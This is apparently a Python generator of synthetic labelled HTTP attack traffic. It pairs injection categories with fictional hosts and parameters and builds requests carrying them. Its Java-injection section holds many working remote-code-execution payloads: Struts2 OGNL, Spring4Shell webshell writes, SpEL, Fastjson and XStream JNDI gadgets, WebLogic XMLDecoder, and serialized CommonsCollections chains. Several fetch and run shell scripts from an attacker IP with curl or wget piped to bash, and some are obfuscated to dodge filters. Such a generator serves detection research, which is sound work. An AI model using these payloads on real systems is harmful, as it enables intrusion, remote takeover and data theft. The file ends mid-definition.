        ["host", "ip", "target", "domain", "filename", "cmd", "addr", "device", "name", "dst", "interface"],
        ["X-Device-Name", "X-Hostname", "X-Debug-Cmd"],
        ["device", "hostname", "diag"],
    ),
    "sqli": C(
        [
            "shop.brightcart.com",
            "api.ledgerly.io",
            "tickets.arenapass.com",
            "www.hausundgarten.de",
            "portal.medisync.health",
            "inventory.stockroom.app",
        ],
        [
            "/products",
            "/api/v2/invoices",
            "/events/search",
            "/catalog/list.php",
            "/api/v1/patients",
            "/reports/export",
            "/api/items",
        ],
        ["/api/v2/invoices/search", "/login", "/api/v1/reports/query", "/account/update", "/api/items/filter"],
        ["/products/{}", "/api/v2/invoices/{}", "/events/{}/seats", "/api/items/{}"],
        ["id", "category", "sort", "order", "q", "user", "limit", "offset", "status", "from", "item", "region"],
        ["X-Tenant-Id", "X-Customer-Id", "X-Sort", "X-Forwarded-For"],
        ["cart_id", "user_id", "region", "last_category", "tracking"],
    ),
    "nosqli": C(
        [
            "api.kindlink.app",
            "accounts.roamly.io",
            "api.gigboard.co",
            "app.fitstreak.com",
            "graph.recipebox.dev",
            "search.docuhive.com",
        ],
        ["/api/users", "/api/v1/login", "/api/search", "/api/v2/posts", "/api/products/find", "/api/orders"],
        [
            "/api/v1/login",
            "/api/users/find",
            "/api/v2/auth/session",
            "/api/search/query",
            "/api/orders/filter",
            "/api/v1/profile",
        ],
        ["/api/users/{}", "/api/v2/posts/{}", "/api/orders/{}"],
        ["username", "password", "email", "filter", "query", "where", "token", "name", "id", "search"],
        ["X-Query", "X-Filter"],
        ["filter", "session", "prefs"],
    ),
    "ldapi": C(
        [
            "sso.harbourview-uni.edu",
            "directory.kapstone-corp.com",
            "login.metrotransit.gov",
            "phonebook.rhein-klinik.de",
            "vpn.alderbank.com",
        ],
        ["/directory/search", "/api/people", "/ldap/lookup", "/phonebook", "/api/v1/groups/members", "/whois"],
        ["/login", "/api/auth", "/directory/search", "/api/v1/groups/check", "/password/reset"],
        ["/api/people/{}", "/directory/user/{}", "/api/v1/groups/{}/members"],
        ["username", "uid", "cn", "user", "search", "filter", "group", "mail", "name", "login", "q"],
        ["X-Remote-User", "X-Forwarded-User", "X-Auth-User"],
        ["last_user", "dir_filter", "remember_login"],
    ),
    "ssti": C(
        [
            "mail.campaignly.io",
            "www.giftnote.shop",
            "app.invoicely.dev",
            "cms.cobalt-press.com",
            "notify.alertbridge.net",
            "pages.launchkit.site",
        ],
        ["/preview", "/greeting", "/api/templates/render", "/hello", "/invoice/preview", "/page", "/error"],
        [
            "/api/templates/render",
            "/api/campaigns/preview",
            "/api/v1/notifications/test",
            "/admin/pages/save",
            "/api/cards/preview",
        ],
        ["/preview/{}", "/hello/{}", "/p/{}", "/doc/{}"],
        [
            "name",
            "template",
            "subject",
            "greeting",
            "title",
            "message",
            "body",
            "content",
            "msg",
            "first_name",
            "footer",
        ],
        ["X-Template", "X-Greeting", "X-Display-Name"],
        ["display_name", "greeting", "theme"],
    ),
    "crlf": C(
        [
            "www.seabreeze-resorts.com",
            "auth.pennantbank.com",
            "go.clickmetric.io",
            "shop.nordkap-outdoor.no",
            "login.edutrack.org",
            "app.parcelwise.com",
        ],
        ["/redirect", "/logout", "/set-language", "/download", "/r", "/auth/callback", "/track"],
        ["/api/v1/redirects", "/account/language", "/api/export", "/api/webhooks", "/login"],
        ["/{}", "/r/{}", "/lang/{}", "/download/{}"],
        ["next", "redirect", "url", "return_to", "lang", "filename", "callback", "continue", "dest", "locale", "ref"],
        ["X-Forwarded-Host", "X-Request-Id", "X-Forwarded-Proto", "X-Original-URL", "Referer", "User-Agent"],
        ["lang", "return_to", "locale", "tracking_id"],
    ),
    "mail_injection": C(
        [
            "www.bluefin-dental.com",
            "shop.morrow-tea.co",
            "contact.fieldstone-law.com",
            "app.rsvpnow.io",
            "support.packetline.net",
            "www.alpenblick-hotel.ch",
        ],
        ["/contact", "/share", "/unsubscribe", "/newsletter/subscribe", "/invite"],
        [
            "/contact/send",
            "/api/v1/invitations",
            "/newsletter/subscribe",
            "/api/share/email",
            "/support/ticket",
            "/account/email",
        ],
        ["/invite/{}", "/unsubscribe/{}"],
        ["email", "to", "from", "reply_to", "name", "subject", "cc", "sender", "recipient", "friend_email", "message"],
        ["X-Reply-To", "From", "X-Sender"],
        ["remember_email", "share_to"],
    ),
    "xss": C(
        [
            "www.quillreads.com",
            "forum.gearheads.net",
            "shop.lumenbeauty.com",
            "app.taskpilot.io",
            "news.riverbend-gazette.com",
            "careers.vantagepoint.jobs",
        ],
        ["/search", "/products", "/profile", "/error", "/comments", "/jobs", "/login", "/share"],
        ["/api/comments", "/profile/update", "/api/v1/posts", "/api/reviews", "/apply", "/api/tasks"],
        ["/search/{}", "/u/{}", "/tag/{}", "/p/{}/comments"],
        [
            "q",
            "name",
            "comment",
            "bio",
            "title",
            "message",
            "redirect",
            "error",
            "callback",
            "display_name",
            "search",
            "text",
        ],
        ["Referer", "User-Agent", "X-Forwarded-Host", "X-Display-Name"],
        ["last_search", "username", "flash", "theme"],
    ),
    "path_traversal": C(
        [
            "files.crestline-docs.com",
            "cdn.maplewood-media.com",
            "portal.tesserax.io",
            "downloads.vireo-soft.com",
            "assets.harborlight.org",
            "reports.quarrybank.com",
        ],
        ["/download", "/api/v1/files", "/static", "/image", "/view", "/api/export", "/docs/get"],
        ["/api/v1/files/read", "/api/upload", "/api/templates/load", "/admin/logs/view", "/api/backup/restore"],
        ["/static/{}", "/files/{}", "/download/{}", "/assets/{}", "/api/v1/files/{}"],
        ["file", "path", "filename", "doc", "template", "name", "page", "folder", "src", "download", "img", "log"],
        ["X-File-Name", "X-Original-URL", "X-Rewrite-URL"],
        ["template", "lang", "theme", "last_file"],
    ),
    "xxe": C(
        [
            "soap.northwind-logistics.com",
            "api.billbridge.io",
            "edi.grainline-foods.com",
            "import.sheetworks.app",
            "saml.accesshub.org",
            "feeds.podwave.fm",
        ],
        ["/api/import", "/xmlrpc.php", "/api/v1/parse"],
        [
            "/ws/OrderService",
            "/api/import/xml",
            "/xmlrpc.php",
            "/api/v1/invoices/upload",
            "/saml/acs",
            "/api/feeds/validate",
            "/services/Inventory",
        ],
        ["/api/xml/{}"],
        ["xml", "data", "document", "payload", "SAMLResponse", "feed", "content"],
        ["X-Xml-Payload"],
        ["xmlstate"],
    ),
    "log4shell": C(
        [
            "vpn.carrickgroup.com",
            "helpdesk.solvera.io",
            "api.minecraft-servers.gg",
            "search.elastic-jobs.com",
            "console.vmhosting.net",
            "www.trelliscloud.com",
        ],
        ["/", "/login", "/api/v1/search", "/websso/SAML2/SSO", "/solr/admin/cores", "/api/status", "/portal/"],
        ["/api/v1/login", "/api/events", "/api/v1/search", "/api/feedback", "/graphql", "/api/logs"],
        ["/{}", "/api/v1/users/{}", "/search/{}"],
        ["q", "username", "search", "id", "action", "x", "email", "term", "user", "text"],
        [
            "User-Agent",
            "X-Api-Version",
            "Referer",
            "X-Forwarded-For",
            "Authorization",
            "Accept-Language",
            "X-Client-IP",
            "True-Client-IP",
            "X-Request-ID",
            "Origin",
            "Accept",
            "Host",
        ],
        ["JSESSIONID", "lang", "username", "tracking"],
    ),
}

BODY_KINDS = ["xhr", "xhr", "mobile", "server", "cli"]
GET_KINDS = ["browser", "xhr", "cli", "server", "browser", "mobile"]


def A(p, pl, h=False, **kw):
    d = {"p": p, "pl": pl, "h": h}
    d.update(kw)
    return d


def xml_wrap(host, param, val, style=None):
    style = style if style is not None else R.randrange(3)
    ns = brand_of(host).lower()
    if style == 0:
        return (
            '<?xml version="1.0" encoding="UTF-8"?>\n<request>\n  <%s>%s</%s>\n  <locale>en-US</locale>\n  <requestId>%s</requestId>\n</request>'
            % (param, val, param, ruuid())
        )
    if style == 1:
        return (
            '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:v1="http://ws.%s.com/v1">'
            "<soapenv:Header/><soapenv:Body><v1:Lookup><v1:%s>%s</v1:%s><v1:maxResults>%d</v1:maxResults>"
            "</v1:Lookup></soapenv:Body></soapenv:Envelope>" % (ns, param, val, param, rint(10, 100))
        )
    return (
        '<?xml version="1.0"?>\n<%sRequest version="2.1"><auth><apiKey>%s</apiKey></auth><query><%s>%s</%s></query></%sRequest>'
        % (ns, ralnum(24), param, val, param, ns)
    )


def build_attack(cat, sp):
    cx = CTX[cat]
    pl = sp["pl"]
    p = sp["p"]
    enc = sp.get("enc")
    host = sp.get("host") or ch(cx["hosts"])
    param = sp.get("param") or ch(cx["params"])
    headers = list(sp.get("headers", []))
    cookies = []
    override = {}
    body = ""
    ctype = None
    query = ""
    accept = sp.get("accept")
    if pl in ("query", "query_key", "path", "header", "cookie"):
        method = sp.get("method") or ch(["GET"] * 9 + ["POST", "HEAD", "DELETE"])
        kind = sp.get("kind") or ch(GET_KINDS)
        path = sp.get("path") or ch(cx["paths"])
        qf = fill(GENERIC_QFILL, rint(0, 2))
        raw = [qenc(k) + "=" + qenc(v) for k, v in qf]
        if pl == "query":
            piece = quote(param, safe="[]") + "=" + qenc(p, enc, safe=sp.get("safe", Q_SAFE))
            raw.insert(R.randrange(len(raw) + 1), piece)
            for k, v in sp.get("qextra", []):
                raw.append(qenc(k, safe="[]") + "=" + qenc(v))
        elif pl == "query_key":
            piece = qenc(p, enc, safe=Q_SAFE + "[]")
            if not sp.get("noeq"):
                piece += "=" + qenc(sp.get("val", "1"))
            if sp.get("only"):
                raw = [piece]
            else:
                raw.insert(R.randrange(len(raw) + 1), piece)
        elif pl == "path":
            tpl = sp.get("tpl") or ch(cx["path_tpl"])
            path = tpl.replace("{}", qenc(p, enc, safe=sp.get("safe", P_SAFE)))
        elif pl == "header":
            hn = sp.get("hdr") or ch(cx["headers"])
            assert p.isascii() and "\r" not in p and "\n" not in p, p
            if hn in ("Host", "User-Agent", "Accept", "Content-Type"):
                override[hn] = p
            else:
                headers.append((hn, p))
            if hn == "Content-Type":
                method = sp.get("method") or "POST"
                body = sp.get("body") or "upload=1"
                ctype = p
        elif pl == "cookie":
            cn = sp.get("cookie") or ch(cx["cookies"])
            cookies.append(cn + "=" + qenc(p, enc, safe=sp.get("safe", C_SAFE)))
        if pl != "path" and pl != "query_key" and not sp.get("only"):
            pass
        query = "&".join(raw) if (pl in ("query", "query_key") or R.random() < 0.35) else ""
        if sp.get("query") is not None:
            query = sp["query"]
        if not body and method in ("POST", "PUT", "PATCH") and R.random() < 0.5:
            body = jbody(dict(fill(GENERIC_JFILL, 2)), 0)
            ctype = "application/json"
    else:
        method = sp.get("method") or ch(["POST"] * 6 + ["PUT", "PATCH"])
        kind = sp.get("kind") or ch(
            BODY_KINDS if pl in ("json", "json_key", "xml") else ["browser", "xhr", "xhr", "cli", "mobile"]
        )
        if pl == "xml" and not sp.get("kind"):
            kind = ch(["server", "cli", "xhr", "server"])
        path = sp.get("path") or ch(cx["post_paths"])
        if sp.get("query") is not None:
            query = sp["query"]
        elif R.random() < 0.2:
            query = qpairs(fill(GENERIC_QFILL, 1))
        if pl in ("json", "json_key"):
            ctype = sp.get("ctype") or ch(
                [
                    "application/json",
                    "application/json",
                    "application/json; charset=utf-8",
                    "application/json;charset=UTF-8",
                ]
            )
            if sp.get("rawbody"):
                body = sp["rawbody"]
            else:
                if pl == "json":
                    if sp.get("raw_json"):
                        obj_val = json.loads(p)
                        assert jcompact(obj_val) == p, p
                        enc_val = jdump_esc(obj_val, enc) if enc else p
                    else:
                        enc_val = jstr(p, enc)
                    if "obj" in sp:
                        obj = sp["obj"]
                    else:
                        inner = dict(fill(GENERIC_JFILL, rint(1, 3)))
                        items = list(inner.items())
                        items.insert(R.randrange(len(items) + 1), (param, SENT))
                        obj = dict(items)
                        if sp.get("deep"):
                            obj = nest(obj, sp["deep"])
                            obj = dict([("version", rint(1, 3))] + list(obj.items()))
                    b = jbody(obj, sp.get("style"))
                    assert b.count('"%s"' % SENT) == 1, (cat, p)
                    body = b.replace('"%s"' % SENT, enc_val)
                else:
                    val = sp.get("val", True)
                    if "obj" in sp:
                        obj = sp["obj"]
                    else:
                        inner = {SENTK: val}
                        if sp.get("deep"):
                            inner = nest(inner, sp["deep"])
                        obj = dict(fill(GENERIC_JFILL, rint(1, 2)))
                        obj[param] = inner
                    b = jbody(obj, sp.get("style"))
                    assert b.count('"%s"' % SENTK) == 1
                    body = b.replace('"%s"' % SENTK, jstr(p, enc))
        elif pl == "form":
            ctype = ch(["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"])
            pairs = [fenc(k) + "=" + fenc(v) for k, v in fill(GENERIC_FFILL, rint(1, 3))]
            for k, v in sp.get("fextra", []):
                pairs.append(fenc(k) + "=" + fenc(v))
            if sp.get("as_key"):
                piece = fenc(p, enc) + "=" + fenc(sp.get("val", "1"))
            else:
                piece = fenc(param) + "=" + fenc(p, enc)
            pairs.insert(R.randrange(len(pairs) + 1), piece)
            body = "&".join(pairs)
        elif pl == "multipart":
            bnd = boundary()
            ctype = "multipart/form-data; boundary=" + bnd
            mode = sp.get("mp", "field")
            parts = [(k, v, None, None) for k, v in fill(GENERIC_FFILL, rint(1, 2))]
            fname = sp.get("fname", "upload.txt")
            fct = sp.get("fct", "text/plain")
            if mode == "field":
                parts.insert(R.randrange(len(parts) + 1), (param, p, None, None))
            elif mode == "name":
                parts.insert(R.randrange(len(parts) + 1), (p, sp.get("val", "1"), None, None))
            elif mode == "file":
                parts.append((sp.get("field", "file"), p, fname, fct))
            elif mode == "filename":
                parts.append((sp.get("field", "file"), sp.get("content", "hello\n"), p, fct))
            body = multipart(parts, bnd)
        elif pl == "xml":
            ctype = sp.get("ctype") or ch(
                ["application/xml", "text/xml; charset=utf-8", "application/xml; charset=UTF-8"]
            )
            if sp.get("doc"):
                body = p
            else:
                val = xref(p) if enc == "xr" else xesc(p)
                body = xml_wrap(host, param, val, sp.get("xstyle"))
                if ":Envelope" in body and not sp.get("ctype"):
                    ctype = "text/xml; charset=utf-8"
                    headers.append(("SOAPAction", '"urn:Lookup"'))
        else:
            raise ValueError(pl)
    return emit(
        "attack",
        cat,
        sp["h"],
        pl,
        p,
        host,
        method,
        path,
        query,
        body,
        ctype,
        kind,
        accept,
        headers,
        cookies,
        override,
        no_session=sp.get("no_session", False),
    )


# ---------------------------------------------------------------- serialized-object helpers


def java_ser(classes, tail):
    b = b"\xac\xed\x00\x05"
    for c in classes:
        cb = c.encode()
        b += b"sr" + struct.pack(">H", len(cb)) + cb + rbytes(8) + b"\x02\x00" + bytes([rint(1, 3)])
        b += b"L\x00\x03mapt\x00\x0fLjava/util/Map;xp"
    for t in tail:
        tb = t.encode()
        b += b"t" + struct.pack(">H", len(tb)) + tb
    return b + b"x"


CC_CHAIN = [
    "org.apache.commons.collections.keyvalue.TiedMapEntry",
    "org.apache.commons.collections.map.LazyMap",
    "org.apache.commons.collections.functors.ChainedTransformer",
    "org.apache.commons.collections.functors.InvokerTransformer",
]
CB_CHAIN = [
    "java.util.PriorityQueue",
    "org.apache.commons.beanutils.BeanComparator",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
]


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode("utf-8")), s)


def dotnet_bf(cmd):
    b = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"
    asm = b"PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35"
    b += bytes([len(asm)]) + asm + b"\x05\x01\x00\x00\x00"
    cls = b"System.Windows.Data.ObjectDataProvider"
    b += bytes([len(cls)]) + cls + b"\x02\x00\x00\x00\x0aMethodName\x0eMethodParameters"
    b += b"\x01\x06\x03\x00\x00\x00\x05Start\x06\x04\x00\x00\x00" + bytes([len(cmd)]) + cmd.encode() + b"\x0b"
    return b


# ---------------------------------------------------------------- java_injection


def specs_java():
    ip, o = eip(), oast()
    n = []
    ognl_ct = (
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
        "((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance("
        "@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil."
        "getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty"
        "('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new "
        "java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2."
        "ServletActionContext@getResponse().getOutputStream())).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),"
        "#ros)).(#ros.flush())}"
    )
    n.append(
        A(
            ognl_ct,
            "header",
            hdr="Content-Type",
            method="POST",
            path="/struts2-showcase/fileupload/doUpload.action",
            kind="cli",
        )
    )
    n.append(
        A(
            '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8"))'
            '.(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}',
            "path",
            tpl="/{}/",
            host="wiki.orbitlabs.io",
            kind="cli",
            method="GET",
        )
    )
    n.append(
        A(
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            "form",
            as_key=True,
            val='%{c2}i if("j".equals(request.getParameter("pwd"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i',
            fextra=[("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp")],
            path="/greeting",
            kind="cli",
        )
    )
    n.append(
        A(
            "class.module.classLoader.resources.context.parent.pipeline.first.directory",
            "form",
            as_key=True,
            val="webapps/ROOT",
            fextra=[("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar")],
            path="/app/register",
            kind="cli",
        )
    )
    n.append(
        A(
            'T(java.lang.Runtime).getRuntime().exec("curl -fsSL http://%s/x.sh -o /tmp/.x")' % ip,
            "query",
            param="expression",
        )
    )
    n.append(
        A(
            'T(java.lang.Runtime).getRuntime().exec("touch /tmp/scf_%s")' % ralnum(6, LOWER),
            "header",
            hdr="spring.cloud.function.routing-expression",
            method="POST",
            path="/functionRouter",
            kind="cli",
        )
    )
    n.append(
        A(
            '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"id"}).getInputStream()))}',
            "json",
            path="/actuator/gateway/routes/hacktest",
            kind="cli",
            obj={
                "id": "hacktest",
                "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": SENT}}],
                "uri": "http://example.com",
            },
        )
    )
    n.append(
        A(
            "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
            "query",
            param="msg",
            path="/error.jsp",
        )
    )
    n.append(
        A(
            '#{request.getClass().getClassLoader().loadClass("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("whoami")}',
            "form",
            param="j_idt12:search",
            path="/faces/search.xhtml",
        )
    )
    n.append(
        A(
            jcompact(
                {
                    "@type": "com.sun.rowset.JdbcRowSetImpl",
                    "dataSourceName": "ldap://%s:1389/Exploit" % ip,
                    "autoCommit": True,
                }
            ),
            "json",
            raw_json=True,
            param="data",
        )
    )
    n.append(
        A(
            jcompact(["ch.qos.logback.core.db.JNDIConnectionSource", {"jndiLocation": "rmi://%s:1099/Object" % ip}]),
            "json",
            raw_json=True,
            param="config",
        )
    )
    n.append(
        A(
            "<sorted-set>\n  <string>foo</string>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n"
            '    <handler class="java.beans.EventHandler">\n      <target class="java.lang.ProcessBuilder">\n        <command>\n'
            "          <string>bash</string>\n          <string>-c</string>\n          <string>curl http://%s/s | bash</string>\n"
            "        </command>\n      </target>\n      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>"
            % ip,
            "xml",
            doc=True,
            path="/api/v1/orders/import",
        )
    )
    n.append(
        A(
            '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
            '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8.0_151" class="java.beans.XMLDecoder">'
            '<object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void>'
            '<void index="1"><string>-c</string></void><void index="2"><string>id &gt; servers/AdminServer/tmp/_WL_internal/bea_wls_internal/9j4dqk/war/a.txt</string></void>'
            '</array><void method="start"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>',
            "xml",
            doc=True,
            path="/wls-wsat/CoordinatorPortType",
            ctype="text/xml; charset=utf-8",
            host="erp.tallis-mfg.com",
        )
    )
    n.append(
        A(
            'def proc = "cat /etc/passwd".execute(); def os = new StringBuffer(); proc.waitForProcessOutput(os, System.err); println(os.toString())',
            "form",
            param="script",
            path="/script",
            host="ci.orbitlabs.io",
            kind="browser",
            fextra=[("Jenkins-Crumb", rhex(64))],
        )
    )
    n.append(
        A(
            'new javax.script.ScriptEngineManager().getEngineByName("nashorn").eval("java.lang.Runtime.getRuntime().exec(\'id\')")',
            "json",
            param="script",
        )
    )
    n.append(
        A(
            'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("id").getText()',
            "json",
            path="/_search",
            host="search.kestrelpay.com",
            obj={"size": 1, "script_fields": {"lupin": {"lang": "groovy", "script": SENT}}},
            kind="cli",
        )
    )
    n.append(A("${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/t4s')}", "query", param="template"))
    n.append(
        A(
            "${(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['struts.valueStack'].context).(#cr=#ct['com.opensymphony.xwork2.ActionContext.container'])"
            ".(#ou=#cr.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ou.getExcludedPackageNames().clear()).(#ou.getExcludedClasses().clear())"
            ".(#ct.setMemberAccess(#dm)).(#a=@java.lang.Runtime@getRuntime().exec('id')).(@org.apache.commons.io.IOUtils@toString(#a.getInputStream()))}",
            "path",
            tpl="/struts2-showcase/{}/actionChain1.action",
            method="GET",
            kind="cli",
        )
    )
    n.append(
        A(
            "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest'),#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start(),"
            "#b=#a.getInputStream(),#c=new java.io.InputStreamReader(#b),#d=new java.io.BufferedReader(#c),#e=new char[50000],#d.read(#e),"
            "#resp=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#resp.getWriter().println(#e),#resp.getWriter().flush()}",
            "query_key",
            noeq=True,
            only=True,
            path="/login.action",
        )
    )
    n.append(
        A(
            "zip:/app/metabase.jar!/sample-database.db;MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE TRIGGER pwn BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS "
            "$$//javascript\njava.lang.Runtime.getRuntime().exec('bash -c {echo,Y3VybCBodHRwOi8v%s|{base64,-d}|{bash,-i}')\n$$--=x"
            % b64(ip + "/m.sh|sh")[:-2],
            "json",
            path="/api/setup/validate",
            host="bi.kestrelpay.com",
            kind="cli",
            obj={
                "token": ruuid(),
                "details": {
                    "is_on_demand": False,
                    "is_full_sync": False,
                    "is_sample": False,
                    "cache_ttl": None,
                    "refingerprint": False,
                    "auto_run_queries": True,
                    "schedules": {},
                    "details": {"db": SENT, "advanced-options": False, "ssl": True},
                    "name": "an-sec-research",
                    "engine": "h2",
                },
            },
        )
    )
    n.append(
        A(
            "CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException {Runtime.getRuntime().exec(cmd);return null;}'; CALL EXEC('curl http://%s/');"
            % o,
            "json",
            path="/actuator/env",
            kind="cli",
            obj={"name": "spring.datasource.hikari.connection-test-query", "value": SENT},
        )
    )
    n.append(
        A(
            "throw new Exception('id'.execute().text);",
            "form",
            param="groovyProgram",
            path="/webtools/control/ProgramExport",
            host="erp.tallis-mfg.com",
        )
    )
    n.append(
        A(
            'username[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("calc.exe")]',
            "form",
            as_key=True,
            val="x",
            fextra=[("password", "x"), ("repeatedPassword", "x")],
            path="/users",
        )
    )
    n.append(
        A(
            "exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/%s!/logback.xml"
            % ip,
            "path",
            tpl="/actuator/jolokia/{}",
            kind="cli",
        )
    )
    n.append(
        A(
            '!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL ["http://%s/yaml-payload.jar"]\n  ]]\n]\n'
            % ip,
            "multipart",
            mp="file",
            field="config",
            fname="application.yml",
            fct="application/x-yaml",
            path="/api/import/config",
        )
    )
    n.append(
        A(
            'script::Runtime r = Runtime.getRuntime(); r.exec("curl http://%s/u");' % o,
            "json",
            path="/context.json",
            host="cdp.trelliscloud.com",
            obj={
                "filters": [
                    {
                        "id": "boomFilter",
                        "filters": [{"condition": {"parameterValues": {"": SENT}, "type": "profilePropertyCondition"}}],
                    }
                ],
                "sessionId": "boom",
            },
        )
    )
    n.append(
        A(
            "${T(javax.naming.InitialContext).newInstance().lookup('ldap://%s/a')}" % o,
            "cookie",
            cookie="dashboard_filter",
        )
    )
    n.append(A("${url:UTF-8:http://%s/}" % o, "header", hdr="X-Tenant"))
    n.append(
        A(
            'T(java.lang.Runtime).getRuntime().exec(new String[]{"/bin/sh","-c","wget -qO- http://%s/s|sh"})' % ip,
            "xml",
            param="filterExpression",
        )
    )
    n.append(A("@java.lang.Runtime@getRuntime().exec('id')", "query", param="condition", path="/app/search.action"))
    h = []
    h.append(A("${@java.lang.Runtime@getRuntime().exec('id')}", "json", True, enc="ju", param="expression"))
    h.append(
        A(
            'T(java.lang.Class).forName("java.la"+"ng.Run"+"time").getMethod("getRu"+"ntime").invoke(null).exec("id")',
            "query",
            True,
            enc="mixed",
            param="sort",
        )
    )
    h.append(
        A(
            "T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))",
            "json",
            True,
            param="rule",
        )
    )
    h.append(
        A(
            "class.module.classLoader.resources.context.parent.pipeline.first.prefix",
            "form",
            True,
            as_key=True,
            val="shell",
            enc="all",
            path="/greeting",
            kind="cli",
        )
    )
    h.append(
        A(
            b64(java_ser(CC_CHAIN, ["exec", "bash -c {echo,%s}|{base64,-d}|{bash,-i}" % b64("curl %s|sh" % ip)])),
            "cookie",
            True,
            cookie="rememberMe",
        )
    )
    h.append(
        A(
            gz64(java_ser(CB_CHAIN, ["_bytecodes", "touch /tmp/jsf"])),
            "form",
            True,
            param="javax.faces.ViewState",
            path="/faces/login.xhtml",
            fextra=[("javax.faces.partial.ajax", "true"), ("loginForm:j_idt9", "loginForm:j_idt9")],
        )
    )
    h.append(A(java_ser(CC_CHAIN, ["exec", "nslookup %s" % o]).hex(), "query", True, param="state"))
    h.append(
        A(
            '<map>\n  <entry>\n    <jdk.nashorn.internal.objects.NativeString>\n      <flags>0</flags>\n      <value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">\n'
            '        <dataHandler>\n          <dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">\n'
            '            <is class="javax.crypto.CipherInputStream">\n              <cipher class="javax.crypto.NullCipher">\n'
            '                <serviceIterator class="javax.imageio.spi.FilterIterator">\n                  <iter class="javax.imageio.spi.FilterIterator">\n'
            '                    <iter class="java.util.Collections$EmptyIterator"/>\n                    <next class="java.lang.&#80;rocess&#66;uilder">\n'
            "                      <command><string>&#x2f;bin&#x2f;sh</string><string>-c</string><string>id</string></command>\n"
            "                      <redirectErrorStream>false</redirectErrorStream>\n                    </next>\n                  </iter>\n"
            '                  <filter class="javax.imageio.ImageIO$ContainsFilter">\n                    <method><class>java.lang.ProcessBuilder</class><name>st&#97;rt</name><parameter-types/></method>\n'
            '                    <name>foo</name>\n                  </filter>\n                  <next class="string">foo</next>\n                </serviceIterator>\n'
            '                <lock/>\n              </cipher>\n              <input class="java.lang.ProcessBuilder$NullInputStream"/>\n              <ibuffer/>\n'
            "            </is>\n          </dataSource>\n        </dataHandler>\n      </value>\n    </jdk.nashorn.internal.objects.NativeString>\n"
            '    <jdk.nashorn.internal.objects.NativeString reference="../jdk.nashorn.internal.objects.NativeString"/>\n  </entry>\n</map>',
            "xml",
            True,
            doc=True,
            path="/api/v1/orders/import",
        )
    )
    h.append(
        A(
            '<?xml version="1.0" encoding="UTF-8"?>\n<java class="java.beans.XMLDecoder">\n <void class="java.lang.&#x50;rocessBuilder">\n'
            '  <array class="java.lang.String" length="3">\n   <void index="0"><string>&#x2f;bin&#x2f;bash</string></void>\n'
            '   <void index="1"><string>-c</string></void>\n   <void index="2"><string>wget http://%s/a -O- | sh</string></void>\n'
            '  </array>\n  <void method="st&#x61;rt"/>\n </void>\n</java>' % ip,
            "xml",
            True,
            doc=True,
            path="/api/import/config",
        )
    )
    h.append(
        A(
            "%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D",
            "path",
            True,
            tpl="/struts/{}/index.action",
            kind="cli",
        )
    )
    h.append(
        A(
            jcompact(
                {
